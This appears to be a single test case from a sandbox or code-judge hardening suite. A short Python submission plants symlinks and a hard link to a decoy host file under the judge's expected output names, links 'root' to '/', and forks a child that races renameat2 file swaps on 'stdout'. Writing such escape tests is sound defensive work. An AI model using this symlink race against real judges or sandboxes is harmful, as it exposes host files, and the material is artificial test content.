# attack: 45 output that is a link
# group: D
# tries: to have the judge read or write a file of the host through a link
#     that stands where the judge expects a file, also while it is swapped
# limits: cpu=1 wall=5
# expect: accepted
# answer: 42
# secret: not in the output
# host: decoy
# control: lures
RENAME_EXCHANGE = 2
for name in ("output.txt", "stdout", "result.json"):
    os.symlink("@DECOY@", name)
try:
    os.link("@DECOY@", "hard")
except OSError:
    pass
os.symlink("/", "root")
print(42, flush=True)
if os.fork() == 0:
    at = ctypes.c_int(-100)
    open("plain", "w").write("plain")
    for _ in range(200):
        libc.renameat2(at, b"plain", at, b"stdout", RENAME_EXCHANGE)
    libc.renameat2(at, b"plain", at, b"stdout", RENAME_EXCHANGE)
    os._exit(0)
os.wait()
